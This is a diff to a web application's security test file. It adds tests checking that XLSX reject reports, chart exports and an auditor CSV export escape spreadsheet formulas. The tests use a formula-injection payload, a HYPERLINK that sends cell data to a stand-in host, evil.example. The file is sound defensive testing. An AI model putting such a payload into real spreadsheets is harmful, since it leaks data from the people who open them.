@@ -2,6 +2,7 @@
 // account (per-row scope, the org re-parenting attack), upload size limit, open redirects, GETs with
 // side effects, cross-origin POSTs, security headers, and the pages under their CSP.
 import { request as httpRequest } from 'node:http';
+import ExcelJS from 'exceljs';
 import type { Browser } from 'playwright-core';
 import { afterAll, beforeAll, describe, expect, inject, it } from 'vitest';
 import { launch, open, chartsReady, type Watched } from './browser.ts';
@@ -68,6 +69,39 @@ describe('uploads by an account limited to S1, through the server', () => {
     const res = await post('/upload', s.auditor!, form({ 'members.csv': '会员编号,姓名\nA,b\n' }));
     expect(res.status).toBe(403);
     expect(await res.text()).toContain('needs the staff role; your account sec-auditor is auditor');
+  });
+});
+
+describe('downloads never carry a formula', () => {
+  const LEAK = '=HYPERLINK("http://evil.example/?leak="&A3,"点击查看")';
+  async function xlsxCells(res: Response): Promise<{ text: string[]; formulas: number }> {
+    const wb = new ExcelJS.Workbook();
+    await wb.xlsx.load(Buffer.from(await res.arrayBuffer()) as never);
+    const text: string[] = [];
+    let formulas = 0;
+    for (const ws of wb.worksheets) ws.eachRow((row) => row.eachCell((c) => {
+      if (c.type === ExcelJS.ValueType.Formula) formulas++;
+      text.push(String(c.value));
+    }));
+    return { text, formulas };
+  }
+
+  it('the reject report of an upload whose org is named like a formula', async () => {
+    const up = await post('/upload', s.staff!, form({ 'orgs.csv': `组织代码,组织名称,上级组织代码,组织类型\nSECX,"${LEAK.replace(/"/g, '""')}",S1,no_such_type\n` }));
+    const batch = /data-batch="(\d+)"/.exec(await up.text())![1];
+    const { text, formulas } = await xlsxCells(await fetch(`${base}/upload/reject/${batch}.xlsx`, { headers: { cookie: s.staff!.header } }));
+    expect(formulas).toBe(0);
+    expect(text).toContain(`'${LEAK}`);
+    expect(text).not.toContain(LEAK);
+  });
+
+  it('the chart table xlsx and the auditor’s CSV export', async () => {
+    const x = await post('/api/xlsx', s.staff!, JSON.stringify({ filename: 't', sheet: 's', table: { columns: ['组织', '数'], rows: [[LEAK, '1,211']] } }), { 'content-type': 'application/json' });
+    const { text, formulas } = await xlsxCells(x);
+    expect(formulas).toBe(0);
+    expect(text).toEqual(['组织', '数', `'${LEAK}`, '1211']);
+    const csv = await post('/api/audit/export', s.auditor!, JSON.stringify({ sql: `select '${LEAK.replace(/'/g, "''")}' as org, -5 as n`, format: 'csv' }), { 'content-type': 'application/json' });
+    expect(await csv.text()).toBe(`\uFEFForg,n\r\n"'${LEAK.replace(/"/g, '""')}",-5\r\n`);
   });
 });
 
@@ -181,5 +215,5 @@ describe('the pages work under their CSP', () => {
       await w.page.waitForSelector('[data-console-ready=true]');
     }
     expect(w.errors).toEqual([]);
-  });
+  }, 240_000);
 });
